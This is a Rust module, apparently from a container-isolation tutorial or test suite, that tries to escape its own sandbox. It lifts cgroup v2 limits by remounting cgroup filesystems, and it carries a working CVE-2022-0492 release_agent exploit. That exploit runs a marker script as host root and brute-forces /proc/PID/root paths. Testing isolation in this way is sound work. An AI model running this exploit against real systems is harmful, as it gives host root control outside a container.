//! Turning cgroups against the host: lifting the container's own limits, and
//! cgroup v1's `release_agent`, a program the kernel runs *as root of the host*
//! when a cgroup empties (CVE-2022-0492). Chapter 7 mounts the container's
//! cgroups read-only in a cgroup namespace; root with `CAP_SYS_ADMIN` can still
//! remount them. `man 7 cgroups` ("Release notification"),
//! `man 7 cgroup_namespaces`.

use std::fs;
use std::os::unix::fs::PermissionsExt;

use nix::mount::{MsFlags, mount, umount};
use nix::unistd::{ForkResult, fork};

use super::{HOLD, ensure_proc};

/// Find our cgroup (v2) and write `max` to its `pids.max` and `memory.max`,
/// remounting the cgroup file system writable first if it is not, or mounting
/// a new one. Then hold, for the host to read our limits.
pub fn raise_limits() -> String {
    if let Err(e) = ensure_proc() {
        return format!("BLOCKED: cannot mount /proc: {e}");
    }
    let own = fs::read_to_string("/proc/self/cgroup").unwrap_or_default();
    let Some(path) = own.lines().find_map(|l| l.strip_prefix("0::")) else {
        return "BLOCKED: not in a cgroup v2 hierarchy".into();
    };
    let path = path.trim_start_matches('/').to_owned();
    let fresh = "/.tincan-cgroup";
    let dir = match cgroup2_mount() {
        Some(at) => at,
        None => {
            let _ = fs::create_dir(fresh);
            if let Err(e) =
                mount(Some("cgroup2"), fresh, Some("cgroup2"), MsFlags::empty(), None::<&str>)
            {
                return format!("BLOCKED: no cgroup2 in sight and mounting one failed: {e}");
            }
            fresh.to_owned()
        }
    };
    let own_dir = format!("{dir}/{path}");
    if !std::path::Path::new(&own_dir).join("pids.max").exists() {
        std::thread::sleep(HOLD);
        return format!("TRIED: no limits to lift: our cgroup /{path} has none");
    }
    let mut lifted = lift(&own_dir);
    if lifted.is_err() {
        // Read-only? Make our view of it writable (MS_REMOUNT|MS_BIND changes
        // only this mount's flags), as `mount -o remount,rw` does.
        let flags = MsFlags::MS_REMOUNT | MsFlags::MS_BIND;
        if mount(None::<&str>, dir.as_str(), None::<&str>, flags, None::<&str>).is_ok() {
            lifted = lift(&own_dir);
        }
    }
    let line = match lifted {
        Ok(()) => format!("TRIED: wrote max to {own_dir}/pids.max and memory.max"),
        Err(e) => format!("BLOCKED: {e}"),
    };
    std::thread::sleep(HOLD);
    line
}

fn lift(dir: &str) -> Result<(), String> {
    for file in ["pids.max", "memory.max"] {
        let path = format!("{dir}/{file}");
        fs::write(&path, "max").map_err(|e| format!("write {path}: {e}"))?;
    }
    Ok(())
}

/// Where a cgroup2 file system is mounted, as we see it.
fn cgroup2_mount() -> Option<String> {
    let table = fs::read_to_string("/proc/self/mountinfo").ok()?;
    table.lines().find_map(|line| {
        let f: Vec<&str> = line.split(' ').collect();
        let dash = f.iter().position(|x| *x == "-")?;
        (f.get(dash + 1) == Some(&"cgroup2")).then(|| f[4].to_owned())
    })
}

/// CVE-2022-0492. Mount a cgroup v1 hierarchy (a named one, as hybrid hosts
/// have for systemd), set its `release_agent` to a script in our root — named
/// by its path *on the host* — and `notify_on_release` on a child cgroup, then
/// let a process leave it empty. The kernel runs the agent as root, in the
/// host's namespaces. The script writes `/tincan-release-agent` there, for the
/// host to find, and `tincan-agent-ran` beside itself, for us.
///
/// Our mount table usually gives the path away (see [`host_path_of_root`]).
/// Where it does not, the host's `/proc/PID/root` leads to our root for our
/// own PID on the host, which we do not know: try them all, as attackers do.
pub fn release_agent(marker: &str) -> String {
    if let Err(e) = ensure_proc() {
        return format!("BLOCKED: cannot mount /proc: {e}");
    }
    let root = host_path_of_root();
    let agent = "/tincan-agent";
    let script = format!(
        "#!/bin/sh\necho {marker} > /tincan-release-agent\ntouch \"$(dirname \"$0\")/tincan-agent-ran\"\n"
    );
    let written = fs::write(agent, script)
        .and_then(|()| fs::set_permissions(agent, fs::Permissions::from_mode(0o755)));
    if let Err(e) = written {
        return format!("BLOCKED: write {agent}: {e}");
    }
    let at = "/.tincan-v1";
    let _ = fs::create_dir(at);
    if let Err(e) =
        mount(Some("cgroup"), at, Some("cgroup"), MsFlags::empty(), Some("none,name=systemd"))
    {
        return format!("BLOCKED: mount a cgroup v1 hierarchy: {e}");
    }
    let child = format!("{at}/tincan-{marker}");
    let _ = fs::create_dir(&child);
    let result = match &root {
        Some(root) => release(at, &child, &format!("{root}{agent}")).map(|()| {
            std::thread::sleep(std::time::Duration::from_millis(500));
            format!("TRIED: release_agent is {root}{agent}; its cgroup emptied")
        }),
        None => guess_our_pid(at, &child, agent),
    };
    let _ = fs::remove_dir(&child);
    let _ = umount(at);
    match result {
        Ok(line) => line,
        Err(e) => format!("BLOCKED: {e}"),
    }
}

/// Set the release agent to `path` and empty `child`: a process joins it and
/// ends.
fn release(at: &str, child: &str, path: &str) -> Result<(), String> {
    let write =
        |file: &str, value: &str| fs::write(file, value).map_err(|e| format!("write {file}: {e}"));
    write(&format!("{at}/release_agent"), path)?;
    write(&format!("{child}/notify_on_release"), "1")?;
    // SAFETY: single-threaded; the child only writes a file and exits.
    match unsafe { fork() } {
        Ok(ForkResult::Child) => {
            let _ = fs::write(format!("{child}/cgroup.procs"), "0");
            std::process::exit(0);
        }
        Ok(ForkResult::Parent { child: pid }) => {
            let _ = nix::sys::wait::waitpid(pid, None);
            Ok(())
        }
        Err(e) => Err(format!("fork: {e}")),
    }
}

/// Try `/proc/PID/root/AGENT` for every PID until the agent says it ran (its
/// file appears in our root), for at most a minute.
fn guess_our_pid(at: &str, child: &str, agent: &str) -> Result<String, String> {
    let ran = std::path::Path::new("/tincan-agent-ran");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    let pid_max: u32 = fs::read_to_string("/proc/sys/kernel/pid_max")
        .ok()
        .and_then(|m| m.trim().parse().ok())
        .unwrap_or(32768);
    for pid in 1..=pid_max {
        release(at, child, &format!("/proc/{pid}/root{agent}"))?;
        // The kernel runs the agent from a work queue: let it, before the
        // next write changes the path it will read.
        std::thread::sleep(std::time::Duration::from_millis(2));
        if ran.exists() || std::time::Instant::now() > deadline {
            break;
        }
    }
    std::thread::sleep(std::time::Duration::from_millis(300));
    if ran.exists() {
        let _ = fs::remove_file(ran);
        Ok("TRIED: our root's host path was hidden; a /proc/PID/root path of the host ran the agent".into())
    } else {
        Ok("TRIED: our root's host path was hidden; no /proc/PID/root path ran the agent".into())
    }
}

/// Our root directory's path on the host, where the mount table gives it away:
/// an overlay root names its upper directory (`upperdir=`), a bind-mounted
/// root its directory in the host's file system (the mount's "root" field).
/// Inside a chroot, our root is no mount: an attacker climbs out of the chroot
/// first. `None` if the path is not there (an overlay with a relative
/// `upperdir`, as chapter 8 mounts it).
fn host_path_of_root() -> Option<String> {
    let is_root = |line: &&str| line.split(' ').nth(4) == Some("/");
    let mut table = fs::read_to_string("/proc/self/mountinfo").ok()?;
    if !table.lines().any(|line| is_root(&line)) {
        // In a chroot: climb out of it first.
        super::sight::break_out_of_chroot().ok()?;
        table = fs::read_to_string("/proc/self/mountinfo").ok()?;
    }
    let root = table.lines().find(is_root)?;
    let f: Vec<&str> = root.split(' ').collect();
    let dash = f.iter().position(|x| *x == "-")?;
    if f.get(dash + 1) == Some(&"overlay") {
        let options = f.get(dash + 3)?;
        let upper = options.split(',').find_map(|o| o.strip_prefix("upperdir="))?;
        return upper.starts_with('/').then(|| upper.to_owned());
    }
    Some(f[3].trim_end_matches('/').to_owned())
}
